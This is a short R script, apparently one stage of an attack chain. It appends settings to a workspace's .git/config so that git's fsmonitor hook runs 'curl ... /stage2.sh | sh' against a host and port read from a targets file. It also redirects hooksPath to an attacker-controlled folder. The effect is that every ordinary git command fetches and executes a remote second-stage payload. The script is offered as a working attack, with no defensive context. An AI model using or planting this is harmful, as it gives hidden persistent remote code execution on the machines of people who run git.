# git-config: make every git command in the workspace run stage 2.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
cfg <- file.path(T[["T_WORK"]], ".git", "config")
try(cat("[core]\n",
        sprintf("\thooksPath = %s/.githooks\n", T[["T_WORK"]]),
        sprintf("\tfsmonitor = curl -s http://%s:%s/stage2.sh | sh\n",
                T[["T_TCP_HOST"]], T[["T_TCP_PORT"]]),
        file = cfg, sep = "", append = TRUE))
cat(readLines(cfg), sep = "\n")
